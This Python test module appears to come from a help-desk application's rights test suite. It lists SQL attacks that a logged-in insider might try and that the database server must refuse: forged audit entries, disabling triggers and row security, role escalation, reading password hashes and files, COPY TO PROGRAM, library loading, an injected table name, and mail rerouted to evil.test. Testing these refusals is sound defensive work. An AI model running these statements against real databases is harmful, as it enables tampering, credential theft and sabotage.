"""What a colleague with psql and a login of the desk would try, by kind (findings of the attacks).

Each is one statement; `but` names the roles that may do it. Every one must be refused by the server
itself, at once or before it commits.
"""

import json
from collections.abc import Iterator, Mapping
from typing import NamedTuple

from deskterm.domain.columns import COLUMNS, FLAG, MOMENT, NUMBER
from deskterm.domain.team import Role
from deskterm.storage.driver import Database
from tests.rights.conftest import LOGINS

OPERATION = "INSERT INTO operation (id, kind, actor, at) VALUES ({})"
LEDGER = (
    "INSERT INTO ledger (operation_id, at, actor, kind, subject_id, version, event, public, text, "
    "changes, data) VALUES ({operation}, {at}, {actor}, 'ticket', 1, 9, {event}, TRUE, 'x', '{{}}', "
    "'{{}}')"
)
MINE, NOW = "'mine'", "(SELECT at FROM operation WHERE id = 'mine')"


class Attack(NamedTuple):
    """A statement, its kind, and who may do it."""

    kind: str
    sql: str
    but: frozenset[Role] = frozenset()


def attacks() -> Iterator[Attack]:
    """Give every attack."""
    for kind, statements in KINDS.items():
        for one in statements():
            yield Attack(kind, *one) if isinstance(one, tuple) else Attack(kind, one)


def _forged() -> Iterator[str | tuple[str, frozenset[Role]]]:
    worker = frozenset({Role.WORKER})
    for n, name in enumerate(LOGINS.values()):
        others = frozenset(role for role, login in LOGINS.items() if login == name)
        behalf = worker if name in ("ann", "mona") else frozenset()
        yield OPERATION.format(f"'f{n}', 'note', '{name}', now()"), others | behalf
    for name in ("bob", "postgres", "", "root", "Ann", " ann", "deskterm"):
        yield OPERATION.format(f"'g{name}', 'note', '{name}', now()")
    for name in ("mail", "desk", "customer", "import"):
        yield OPERATION.format(f"'h{name}', 'note', '{name}', now()"), worker
        yield LEDGER.format(operation=MINE, at=NOW, actor=f"'{name}'", event="'noted'"), worker
        yield LEDGER.format(operation=MINE, at=NOW, actor=f"'{name}'", event="'verified'"), worker
    for name in ("bob", "postgres", "nobody"):
        yield LEDGER.format(operation=MINE, at=NOW, actor=f"'{name}'", event="'noted'"), worker
    for at in (
        "now() - interval '1 day'",
        "now() + interval '1 day'",
        "'epoch'",
        "'infinity'",
        "now() - interval '1 minute'",
    ):
        yield LEDGER.format(operation=MINE, at=at, actor="session_user", event="'noted'")
    for operation in ("'before'", "(SELECT min(id) FROM operation)", "'never'"):
        yield LEDGER.format(operation=operation, at="now()", actor="session_user", event="'noted'")
    yield LEDGER.format(operation=MINE, at=NOW, actor="'desk'", event="'changed'"), worker
    yield LEDGER.format(operation=MINE, at=NOW, actor="'customer'", event="'opened'"), worker


def _history() -> Iterator[str]:
    for table in ("operation", "ledger"):
        for column, value in (("kind", "'x'"), ("actor", "'bob'"), ("at", "now()")):
            yield f"UPDATE {table} SET {column} = {value}"
        yield f"DELETE FROM {table}"
        yield f"TRUNCATE {table}"
        yield f"TRUNCATE {table} CASCADE"
        yield f"LOCK TABLE {table} IN ACCESS EXCLUSIVE MODE"
        yield f"MERGE INTO {table} USING (SELECT 1) AS s ON TRUE WHEN MATCHED THEN DELETE"
    for column, value in (
        ("text", "''"),
        ("changes", "'{}'"),
        ("data", "'{}'"),
        ("public", "TRUE"),
    ):
        yield f"UPDATE ledger SET {column} = {value} WHERE id = 1"
    yield "UPDATE operation SET known_as = 'bob'"
    yield "UPDATE operation SET xact = pg_current_xact_id()::text::bigint"
    yield "INSERT INTO operation (id, kind, actor, at, xact) VALUES ('x', 'x', session_user, now(), 1) ON CONFLICT (id) DO UPDATE SET actor = 'bob'"
    yield "INSERT INTO taken_back SELECT id FROM operation WHERE id = 'before'"
    yield "DELETE FROM taken_back; DELETE FROM operation"


def _off() -> Iterator[str]:
    for table in ("operation", "ledger", "ticket", "technician", "outbox"):
        yield f"ALTER TABLE {table} DISABLE TRIGGER ALL"
        yield f"ALTER TABLE {table} DISABLE TRIGGER USER"
        yield f"DROP TABLE {table} CASCADE"
        yield f"ALTER TABLE {table} RENAME TO {table}_old"
        yield f"CREATE RULE r AS ON INSERT TO {table} DO INSTEAD NOTHING"
    for name, table in (
        ("deskterm_entry", "ledger"),
        ("deskterm_operation", "operation"),
        ("deskterm_claimed", "ticket"),
    ):
        yield f"DROP TRIGGER {name} ON {table}"
        yield f"ALTER TABLE {table} DISABLE TRIGGER {name}"
    yield "SET session_replication_role = replica"
    yield "CREATE OR REPLACE FUNCTION deskterm_bound() RETURNS boolean LANGUAGE sql AS 'SELECT false'"
    yield "DROP FUNCTION deskterm_bound() CASCADE"
    yield "ALTER FUNCTION deskterm_is(text) OWNER TO CURRENT_USER"
    yield "CREATE TABLE public.mine (n int)"
    yield "CREATE TEMPORARY TABLE operation (id text)"
    yield "CREATE SCHEMA mine"
    yield "CREATE FUNCTION public.f() RETURNS int LANGUAGE sql AS 'SELECT 1'"
    yield "DROP SCHEMA public CASCADE"
    yield "ALTER TABLE ticket DROP COLUMN subject"
    yield "CREATE INDEX ON ledger (text)"
    yield "ALTER TABLE ledger OWNER TO CURRENT_USER"
    yield "UPDATE alembic_version SET version_num = '9999'"
    for table in ("ticket", "ledger", "person"):
        yield f"ALTER TABLE {table} DISABLE ROW LEVEL SECURITY"
        yield f"ALTER TABLE {table} NO FORCE ROW LEVEL SECURITY"
        yield f"DROP POLICY deskterm_seen ON {table}"
        yield f"ALTER POLICY deskterm_seen ON {table} USING (TRUE)"
        yield f"CREATE POLICY mine ON {table} USING (TRUE)"
        yield f"SET LOCAL row_security = off; TABLE {table}"
    yield "CREATE OR REPLACE FUNCTION deskterm_sees_all() RETURNS boolean LANGUAGE sql AS 'SELECT TRUE'"
    yield "DROP FUNCTION deskterm_clients() CASCADE"
    yield "INSERT INTO allowed_client SELECT session_user, 1"
    yield "DELETE FROM allowed_client"
    yield "UPDATE allowed_client SET login = 'nobody'"
    yield "UPDATE pg_catalog.pg_trigger SET tgenabled = 'D'"
    yield "DELETE FROM pg_catalog.pg_policy WHERE TRUE"


def _become() -> Iterator[str | tuple[str, frozenset[Role]]]:
    for name in ("postgres", "bob", "dora"):
        yield f"SET SESSION AUTHORIZATION {name}"
        yield f"SET ROLE {name}"
        yield f"GRANT {name} TO CURRENT_USER"
    yield "ALTER ROLE CURRENT_USER SUPERUSER"
    yield "ALTER ROLE CURRENT_USER CREATEROLE"
    yield "ALTER ROLE CURRENT_USER BYPASSRLS"
    yield "CREATE ROLE evil LOGIN"
    yield "ALTER ROLE bob PASSWORD 'x'"
    yield "DROP ROLE bob"
    yield "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC; SELECT 1 / (SELECT count(*) FROM pg_class c, aclexplode(c.relacl) a WHERE a.grantee = 0 AND c.relname = 'ledger')"
    yield "UPDATE technician SET login = 'bob' WHERE login = session_user"
    yield "UPDATE technician SET email = 'mal@evil.test' WHERE login = 'dora'"
    yield "UPDATE technician SET level = 3 WHERE login = session_user"
    yield "UPDATE technician SET active = FALSE WHERE login = 'dora'"
    yield (
        "INSERT INTO technician (login, name, email, level, active, since, mail) VALUES ('evil', '', '', 3, TRUE, now(), 'none')",
        frozenset({Role.MANAGER}),
    )
    yield "DELETE FROM technician WHERE login = 'extra'"
    yield "INSERT INTO membership SELECT id, 'dora' FROM desk_group"
    yield "UPDATE saved_view SET owner = 'dora'"
    yield "UPDATE draft SET owner = 'dora'"
    yield "UPDATE notice SET seen_at = now() WHERE login = 'dora'", frozenset({Role.WORKER})


def _secrets() -> Iterator[str | tuple[str, frozenset[Role]]]:
    worker = frozenset({Role.WORKER})
    for columns in ("*", "value", "id", "count(*)", "md5(value)"):
        yield f"SELECT {columns} FROM secret", worker
    yield "SELECT * FROM ticket, secret", worker
    yield "COPY secret TO STDOUT", worker
    yield "TABLE secret", worker
    yield "SELECT rolpassword FROM pg_authid"
    yield "SELECT passwd FROM pg_shadow"
    yield "SELECT setting FROM pg_settings WHERE name = 'data_directory' AND 1 / (setting IS NOT NULL)::int > 0 UNION SELECT pg_read_file('PG_VERSION')"
    yield "SELECT * FROM pg_hba_file_rules()"
    yield "UPDATE secret SET value = 'x'", worker
    yield "DELETE FROM secret", worker
    yield "INSERT INTO secret (name, value, created_at) VALUES ('token', 'x', now())", worker
    yield "INSERT INTO desk_setting (key, value) VALUES ('mail.address', '\"evil@evil.test\"')"
    yield "DELETE FROM desk_setting"
    yield 'UPDATE mailbox SET source = \'{"host": "evil.test"}\''
    yield "UPDATE mailbox SET address = 'evil@evil.test'"


def _untold() -> Iterator[str | tuple[str, frozenset[Role]]]:
    values = {FLAG: "NOT coalesce({0}, FALSE)", NUMBER: "coalesce({0}, 0) + 1", MOMENT: "now()"}
    skipped = ("assignee", "requester_id", "category_id", "service_id", "group_id", "from_group_id")
    for column in COLUMNS:
        if not column.name.endswith("_id") and column.name not in (
            *skipped,
            "merged_into",
            "from_assignee",
        ):
            value = values.get(column.kind, "coalesce({0}, '') || 'x'").format(column.name)
            yield f"UPDATE ticket SET {column.name} = {value} WHERE id = 1"
    yield from (
        "UPDATE ticket SET assignee = 'dora' WHERE id = 1",
        "UPDATE ticket SET requester_id = requester_id % 2 + 1 WHERE id = 1",
        "DELETE FROM ticket WHERE id = 2",
        "INSERT INTO step (ticket_id, step, status, actor, at, reason) VALUES (1, 'verify', 'done', 'dora', now(), '')",
        "INSERT INTO field_value (ticket_id, name, value) VALUES (1, 'os', 'x')",
        "INSERT INTO watcher (ticket_id, person_id) VALUES (1, 2)",
        "INSERT INTO link (ticket_id, kind, other_id) VALUES (1, 'related', 2)",
        "INSERT INTO problem_ticket (problem_id, ticket_id) VALUES (1, 1)",
        "INSERT INTO entry_place (entry_id, ticket_id) VALUES (1, 2)",
        "UPDATE person SET name = 'Mal' WHERE id = 1",
        "UPDATE person SET notes = 'x' WHERE id = 1",
        "UPDATE person_address SET person_id = 2 WHERE person_id = 1",
        "DELETE FROM person_address",
        "INSERT INTO person_address (address, person_id, position) VALUES ('mal@evil.test', 1, 0)",
        "UPDATE problem SET title = 'x'",
        "UPDATE solution SET resolution = 'x'",
        "UPDATE solution SET confidence = 'validated'",
        "UPDATE announcement SET text = 'x'",
        "DELETE FROM absence",
        "UPDATE absence SET deputy = 'dora'",
        "UPDATE saved_view SET query = 'is:closed'",
        "UPDATE guide SET active = NOT active",
        "UPDATE counter SET value = 0 WHERE name = 'ticket'",
        "UPDATE counter SET value = value + 1000000 WHERE name = 'ticket'",
        "INSERT INTO blob (sha256, size, bytes) VALUES ('abc', 1, 'x')",
        "UPDATE blob SET bytes = 'x'",
        "UPDATE rule SET query = 'is:any'",
        "UPDATE desk_group SET name = name || 'x'",
        "UPDATE category SET path = path || 'x'",
    )


def _mail() -> Iterator[str | tuple[str, frozenset[Role]]]:
    worker = frozenset({Role.WORKER})
    letter = "INSERT INTO outbox (operation_id, ticket_id, recipient, recipient_name, person_id, template, message_id, entries, data, state, created_at, not_before, attempts, error) VALUES ({}, 1, {}, '', {}, 'replied', '<{}@x>', {}, '{{}}', '{}', now(), now(), 0, '')"
    for column in ("recipient", "recipient_name", "message_id", "data", "error"):
        yield f"UPDATE outbox SET {column} = {column} || 'x'", worker
    for column, value in (
        ("holder", "'me'"),
        ("sent_at", "now()"),
        ("held_until", "now()"),
        ("person_id", "2"),
    ):
        yield f"UPDATE outbox SET {column} = {value}", worker
    for state in ("sent", "claimed"):
        yield f"UPDATE outbox SET state = '{state}'", worker
    yield "DELETE FROM outbox"
    yield letter.format(MINE, "'mal@evil.test'", "1", 1, "'[]'", "queued"), worker
    yield (
        letter.format(
            "'before'",
            "(SELECT address FROM person_address WHERE person_id = 1)",
            "1",
            2,
            "'[]'",
            "queued",
        ),
        worker,
    )
    yield (
        letter.format(
            MINE, "(SELECT address FROM person_address WHERE person_id = 1)", "1", 3, "'[]'", "sent"
        ),
        worker,
    )
    yield (
        letter.format(
            MINE,
            "(SELECT address FROM person_address WHERE person_id = 1)",
            "1",
            4,
            "(SELECT '[' || max(id) || ']' FROM ledger WHERE event = 'noted')",
            "queued",
        ),
        worker,
    )
    yield (
        "UPDATE outbox SET entries = (SELECT '[' || max(id) || ']' FROM ledger WHERE event = 'noted')",
        worker,
    )
    yield "UPDATE inbox SET state = 'discarded'", worker
    yield "UPDATE inbox SET sender = 'x'", worker
    yield "DELETE FROM inbox"
    yield (
        "INSERT INTO inbox (mailbox, key, sha256, size, received_at) VALUES ('x', 'x', 'x', 1, now())",
        worker,
    )
    yield (
        "INSERT INTO lease (name, holder, until) VALUES ('jobs', 'me', now() + interval '9 minutes')",
        worker,
    )
    yield "UPDATE lease SET holder = 'me'", worker
    yield "DELETE FROM lease", worker
    yield "UPDATE mailbox SET last_uid = 99999", worker
    yield "DELETE FROM mail_receipt", worker | {Role.MANAGER}


def _server() -> Iterator[str]:
    yield "COPY ticket TO PROGRAM 'cat'"
    yield "COPY ticket TO '/deskterm-attack'"
    yield "COPY ledger (text) FROM '/etc/hostname'"
    yield "SELECT pg_read_file('postgresql.conf')"
    yield "SELECT pg_read_binary_file('PG_VERSION')"
    yield "SELECT pg_ls_dir('.')"
    yield "SELECT lo_import('/etc/hostname')"
    yield "SELECT lo_export(1, '/deskterm-attack')"
    yield "SELECT pg_reload_conf()"
    yield "ALTER DATABASE postgres SET search_path = evil"
    yield "CREATE PUBLICATION p FOR ALL TABLES"
    yield "SELECT pg_switch_wal()"
    yield "SELECT pg_rotate_logfile()"
    yield "SELECT pg_promote()"
    yield "SELECT pg_create_restore_point('x')"
    yield "SELECT pg_stat_reset()"
    yield "SELECT pg_ls_logdir()"
    yield "SELECT pg_stat_file('PG_VERSION')"
    yield "SET log_statement = 'none'"


def _called() -> Iterator[str | tuple[str, frozenset[Role]]]:
    gone = '\'[{"k": {"id": 1}, "v": {"subject": "x"}}]\''
    yield f"SELECT deskterm_let_go(0, 'ticket', {gone})"
    for group in ("1", "NULL", "(SELECT max(id) FROM desk_group)"):
        yield f"SELECT deskterm_hand_over(1, {group})"
    yield "SELECT deskterm_told('ticket', 1, 'ticket')"
    for one in ("entry", "operation", "kept", "claimed", "whose_ticket", "whose_now"):
        yield f"SELECT deskterm_{one}()"
    for one in ("own_outbox", "own_technician", "own_errand", "told_ticket", "told_person"):
        yield f"SELECT deskterm_{one}()"


def _roles() -> Iterator[str | tuple[str, frozenset[Role]]]:
    as_group = "DO $$ BEGIN EXECUTE format('{}', deskterm_role('{}')); END $$"
    for role in Role:
        yield as_group.format("SET ROLE %I", role), frozenset({role})
        yield as_group.format("GRANT %I TO CURRENT_USER", role)
        yield as_group.format("ALTER ROLE %I LOGIN", role)
    for done in ("REVOKE %I FROM mona", "DROP ROLE %I", "ALTER ROLE %I RENAME TO mine"):
        yield as_group.format(done, "manager")
    yield as_group.format("REASSIGN OWNED BY %I TO postgres", "manager")
    yield "REASSIGN OWNED BY CURRENT_USER TO postgres"
    yield "REASSIGN OWNED BY postgres TO CURRENT_USER"
    yield "DROP OWNED BY postgres"
    yield "DROP OWNED BY bob"
    yield "ALTER ROLE ALL SET search_path = evil"
    yield "ALTER ROLE bob SET search_path = evil"
    yield "ALTER ROLE bob VALID UNTIL 'epoch'"
    yield "ALTER ROLE bob CONNECTION LIMIT 0"
    yield "ALTER ROLE bob RENAME TO mine"
    yield "COMMENT ON ROLE bob IS 'x'"
    yield "ALTER DEFAULT PRIVILEGES FOR ROLE postgres GRANT ALL ON TABLES TO PUBLIC"
    yield "ALTER DEFAULT PRIVILEGES FOR ROLE postgres IN SCHEMA public GRANT ALL ON FUNCTIONS TO PUBLIC"


def _shadows() -> Iterator[str]:
    for name in ("pg_has_role(name, oid, text)", "clock_timestamp()", "deskterm_xact()"):
        yield f"CREATE FUNCTION public.{name} RETURNS boolean LANGUAGE sql AS 'SELECT TRUE'"
        yield f"CREATE FUNCTION pg_temp.{name} RETURNS boolean LANGUAGE sql AS 'SELECT TRUE'"
    yield "CREATE OPERATOR public.= (LEFTARG = oid, RIGHTARG = oid, FUNCTION = oidne)"
    yield "CREATE OPERATOR public.@@ (LEFTARG = text, RIGHTARG = text, FUNCTION = textne)"
    yield "CREATE CAST (text AS integer) WITH INOUT AS IMPLICIT"
    yield "CREATE TYPE public.mine AS (n integer)"
    yield "CREATE DOMAIN public.mine AS text"
    yield "CREATE AGGREGATE public.mine (integer) (SFUNC = int4pl, STYPE = integer)"
    yield 'CREATE COLLATION public.mine FROM "C"'
    yield "CREATE SEQUENCE public.mine"
    yield "CREATE TEMPORARY SEQUENCE mine"
    yield "CREATE VIEW public.mine AS SELECT 1"
    yield "CREATE MATERIALIZED VIEW public.mine AS SELECT 1"
    yield "CREATE TEMPORARY VIEW ledger AS SELECT 1"
    yield "CREATE TABLE public.mine AS SELECT 1"
    yield "SELECT 1 AS n INTO TEMPORARY operation"


def _definitions() -> Iterator[str]:
    yield "CREATE TEXT SEARCH CONFIGURATION public.mine (COPY = simple)"
    yield "ALTER TEXT SEARCH CONFIGURATION deskterm_search DROP MAPPING FOR asciiword"
    yield "DROP TEXT SEARCH CONFIGURATION deskterm_search CASCADE"
    yield "CREATE STATISTICS mine ON subject, state FROM ticket"
    yield "CREATE EVENT TRIGGER mine ON ddl_command_start EXECUTE FUNCTION deskterm_entry()"
    yield "CREATE FOREIGN DATA WRAPPER mine"
    yield "CREATE LANGUAGE mine HANDLER plpgsql_call_handler"
    yield "CREATE ACCESS METHOD mine TYPE TABLE HANDLER heap_tableam_handler"
    yield "DROP EXTENSION plpgsql CASCADE"
    yield "COMMENT ON FUNCTION deskterm_role(text) IS 'laid'"
    yield "COMMENT ON TABLE ledger IS 'x'"
    for changed in ("RESET ALL", "SECURITY INVOKER", "IMMUTABLE", "COST 1", "RENAME TO mine"):
        yield f"ALTER FUNCTION deskterm_sees_all() {changed}"
    yield "ALTER FUNCTION deskterm_sees_all() SET search_path = evil"
    yield "ALTER TRIGGER deskterm_entry ON ledger RENAME TO mine"
    yield "ALTER TABLE ticket ALTER COLUMN subject SET STATISTICS 100"
    yield "ALTER TABLE ticket SET (autovacuum_enabled = off)"
    yield "DROP INDEX ticket_pkey"
    yield "REINDEX TABLE ticket"
    yield "CLUSTER ticket USING ticket_pkey"
    yield "ALTER SCHEMA public RENAME TO evil"
    yield "ALTER SCHEMA public OWNER TO CURRENT_USER"
    yield "ALTER DATABASE postgres CONNECTION LIMIT 0"
    for table in ("ledger", "outbox", "errand"):
        yield f"SELECT setval('{table}_id_seq', 1)"
        yield f"ALTER SEQUENCE {table}_id_seq RESTART"
        yield f"ALTER SEQUENCE {table}_id_seq OWNED BY NONE"


def _others() -> Iterator[str]:
    for done in ("terminate", "cancel"):
        yield (
            f"SELECT pg_{done}_backend(pid) FROM pg_stat_activity WHERE usename = 'postgres' "
            "AND datname = current_database()"
        )
    yield "SELECT pg_log_backend_memory_contexts(pg_backend_pid())"
    yield "TABLE pg_backend_memory_contexts"
    yield "TABLE pg_shmem_allocations"
    for name in ("wal", "tmp", "archive_status"):
        yield f"SELECT pg_ls_{name}dir()"
    yield "TABLE pg_file_settings"
    yield "TABLE pg_user_mapping"
    yield "TABLE pg_subscription"
    yield "TABLE pg_largeobject"
    yield "TABLE pg_statistic"
    yield "TABLE pg_statistic_ext_data"
    yield "SELECT pg_current_logfile()"
    yield "TABLE pg_config"
    yield "SELECT pg_create_physical_replication_slot('mine')"
    yield "SELECT pg_create_logical_replication_slot('mine', 'test_decoding')"
    yield "SELECT pg_replication_origin_create('mine')"
    yield "SELECT pg_stat_reset_shared('io')"
    yield "SELECT pg_stat_reset_single_table_counters('ticket'::regclass)"
    yield "SELECT pg_wal_replay_pause()"
    yield "SELECT pg_import_system_collations('public')"
    yield "SELECT lo_unlink(oid) FROM pg_largeobject_metadata"
    yield "SELECT lo_put(oid, 0, 'x') FROM pg_largeobject_metadata"
    yield "SELECT lo_get(oid) FROM pg_largeobject_metadata"
    yield "GRANT ALL ON LARGE OBJECT 424242 TO PUBLIC"
    for name in ("log_min_messages = panic", "temp_file_limit = -1", "track_activities = off"):
        yield f"SET LOCAL {name}"
    for name in ("allow_system_table_mods", "zero_damaged_pages", "lo_compat_privileges"):
        yield f"SET LOCAL {name} = on"
    yield "SET LOCAL session_preload_libraries = 'evil'"
    yield "SET LOCAL dynamic_library_path = '/'"
    yield "LOAD '/deskterm-attack.so'"
    yield "COPY (SELECT 1) TO PROGRAM 'cat'"
    yield "COPY (SELECT subject FROM ticket) TO '/deskterm-attack'"
    yield "CREATE SUBSCRIPTION mine CONNECTION 'host=evil.test' PUBLICATION p WITH (connect = false)"


def _newest() -> Iterator[str | tuple[str, frozenset[Role]]]:
    worker = frozenset({Role.WORKER})
    errand = (
        "INSERT INTO errand (operation_id, problem_id, tracker, kind, words, anyway, request, "
        "state, created_at, not_before, attempts, error) SELECT {}, id, 't', 'comment', "
        "'evil', FALSE, '{}', '{}', now(), now(), 0, '' FROM problem"
    )
    yield errand.format("'before'", "", "queued"), worker
    yield errand.format(MINE, '{"words": "evil"}', "queued"), worker
    yield errand.format(MINE, "", "sent"), worker
    for sets in ("words = 'evil'", "anyway = TRUE", "kind = 'update'", "tracker = 'x'"):
        yield f"UPDATE errand SET {sets}", worker
    yield f"UPDATE errand SET operation_id = {MINE}", worker
    yield "DELETE FROM errand"
    for table in ("improvement", "decision", "feedback", "offer", "checklist", "retention"):
        yield f"DELETE FROM {table}"
    yield "UPDATE improvement SET result = 'x'"
    yield "UPDATE decision SET answer = 'x'"
    yield "UPDATE feedback SET words = 'x'"
    yield "UPDATE canned_text SET words = 'x'"
    yield "UPDATE offer SET cost = 'x'"
    yield "UPDATE retention SET days = 1"
    yield "UPDATE checklist SET items = '[]'"
    yield "UPDATE hook_run SET state = 'queued'", worker
    yield "UPDATE redaction SET closed = FALSE"
    yield "INSERT INTO handover_read SELECT id, 'dora', now() FROM handover", worker
    yield "UPDATE learned_word SET seen = 1", worker
    yield "UPDATE day_total SET counts = ''", worker
    yield "DELETE FROM day_total", worker
    yield "DELETE FROM learned_head", worker


def of_retention(database: Database) -> Iterator[Attack]:
    """Give what nobody may have the server let go, with what they would say before it.

    One ticket of the desk is due by a rule of retention, and so is whoever asked; another is not.
    """
    number = "SELECT id FROM ticket WHERE subject = :subject"
    young, old = (database.returned(number, subject=one)["id"] for one in (YOUNG, OLD))
    entry, first = (
        database.returned(
            f"SELECT {which}(id) AS id FROM ledger WHERE kind = 'ticket' AND subject_id = :id",
            id=one,
        )["id"]
        for which, one in (("max", young), ("min", old))
    )
    cy, ada = (
        database.returned("SELECT requester_id AS id FROM ticket WHERE id = :id", id=one)["id"]
        for one in (young, old)
    )
    for one in _let_go(_Due(young, old, entry, first, cy, ada)):
        yield Attack("let go what is not due", one)


class _Due(NamedTuple):
    """Numbers: a ticket that is not due and one that is, an entry of each, who reported each."""

    young: int
    old: int
    entry: int
    first: int
    cy: int
    ada: int


OLD, YOUNG = "kaleidoskop of long ago", "kaleidoskop of yesterday"
GONE = {"subject": "[forgotten]"}
_NO_ENTRY = {"text": "[forgotten]", "changes": "{}", "data": "{}"}


def let_go(person: int, table: str, key: Mapping[str, object], value: Mapping[str, object]) -> str:
    """Give what asks the server to let one row's words go."""
    row = json.dumps([{"k": key, "v": value}])
    return f"SELECT deskterm_let_go({person}, '{table}', '{row}')"


def _let_go(due: _Due) -> Iterator[str]:
    young, old, entry, first, cy, ada = due
    noted = (
        "INSERT INTO ledger (operation_id, at, actor, kind, subject_id, version, event, public, "
        "text, changes, data) SELECT id, at, actor, '{kind}', {id}, 9, '{event}', FALSE, '', "
        "'{changes}', '{{}}' FROM operation WHERE id = 'mine'; "
    )
    told = noted.format(kind="ticket", id=young, event="noted", changes="{}")
    gone = let_go(0, "ticket", {"id": young}, GONE)
    yield gone
    yield let_go(0, "ledger", {"id": entry}, _NO_ENTRY)
    yield let_go(0, "retained", {"id": young}, {})
    yield told + f"UPDATE ticket SET closed_at = '2001-01-01' WHERE id = {young}; {gone}"
    yield (
        told
        + f"UPDATE ticket SET merged_into = {old}, closed_at = '2001-01-01' "
        + f"WHERE id = {young}; {gone}"
    )
    forged = '{"closed_at": [null, "2001-01-01T00:00:00.000000Z"]}'
    yield (
        noted.format(kind="ticket", id=young, event="closed", changes=forged)
        + f"UPDATE ticket SET closed_at = '2001-01-01' WHERE id = {young}; {gone}"
    )
    # of what is due: other words, who did it, another's rows, other tables
    for value in ("", "another word", "[forgotten] and more", "forgotten-1-1@forgotten.invalid"):
        yield let_go(0, "ticket", {"id": old}, {"subject": value})
    yield let_go(0, "ticket", {"id": old}, {"state": "[forgotten]"})
    yield let_go(0, "ticket", {"id": old}, {"assignee": "[forgotten]"})
    yield let_go(0, "ledger", {"id": first}, {**_NO_ENTRY, "text": "x"})
    yield let_go(0, "ledger", {"id": first}, {**_NO_ENTRY, "text": ""})
    yield let_go(0, "ledger", {"id": first}, {"actor": "[forgotten]"})
    for table in ("operation", "redaction", "secret", "desk_setting", "technician", "seal"):
        yield let_go(0, table, {"id": 1}, {"name": "[forgotten]"})
    yield let_go(0, "person", {"id": 1}, {"name": "[forgotten]"})
    yield let_go(0, "ticket x; DELETE FROM ledger; --", {"id": old}, GONE)
    yield let_go(cy, "person", {"id": cy}, {})
    yield let_go(cy, "ticket", {"id": young}, GONE)
    yield let_go(ada, "ticket", {"id": young}, GONE)
    yield let_go(ada, "ledger", {"id": entry}, _NO_ENTRY)
    yield let_go(ada, "canned_text", {"id": 1}, {"words": "[forgotten]"})
    # somebody is called by what is to go
    called = noted.format(
        kind="person", id=ada, event="opened", changes='{"name": ["x", "kaleidoskop of yesterday"]}'
    )
    yield (
        called
        + f"UPDATE person SET name = 'kaleidoskop of yesterday' WHERE id = {ada}; "
        + let_go(ada, "ticket", {"id": young}, GONE)
    )
    yield "UPDATE ledger SET text = '[forgotten]'"
    yield "INSERT INTO redaction SELECT max(id), 'mine', 'x' FROM ledger"
    yield "INSERT INTO retained SELECT id, version, now() FROM ticket"
    yield "DELETE FROM retained"
    yield "UPDATE attachment SET sha256 = 'x'"
    yield "DELETE FROM blob"


HARMLESS = (
    "SELECT pg_notify('deskterm', repeat('x', 7000)) FROM generate_series(1, 50)",
    "SELECT pg_advisory_lock(7364523)",
    "LISTEN deskterm",
    "SELECT lo_create(0)",
    "ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO PUBLIC",
    "ALTER ROLE CURRENT_USER SET statement_timeout = '9min'",
    "DROP OWNED BY CURRENT_USER",
    "DO $$ BEGIN EXECUTE format('DROP OWNED BY %I', r) FROM unnest(ARRAY['technician', 'manager', "
    "'worker', 'auditor', 'backup']) k, deskterm_role(k) r WHERE pg_has_role(r, 'USAGE'); END $$",
    "GRANT ALL ON ticket TO PUBLIC",
    "GRANT ALL ON SCHEMA public TO PUBLIC",
    "REVOKE ALL ON ticket FROM PUBLIC",
    "SELECT pg_export_snapshot()",
    "SELECT pg_logical_emit_message(true, 'x', 'y')",
    "VACUUM ticket",
    "ANALYZE ticket",
    "SET row_security = off",
    "SET search_path = pg_temp, public",
)
"""What the server lets anybody say: it must leave rights, rows and everybody else as they were."""
KINDS = {
    "forge actor or time": _forged,
    "edit history": _history,
    "switch protection off": _off,
    "become another": _become,
    "secrets": _secrets,
    "change without a ledger row": _untold,
    "others' mail": _mail,
    "server and files": _server,
    "functions called by hand": _called,
    "roles": _roles,
    "names before the desk's": _shadows,
    "definitions": _definitions,
    "others' sessions and the server's own": _others,
    "errands and records": _newest,
}
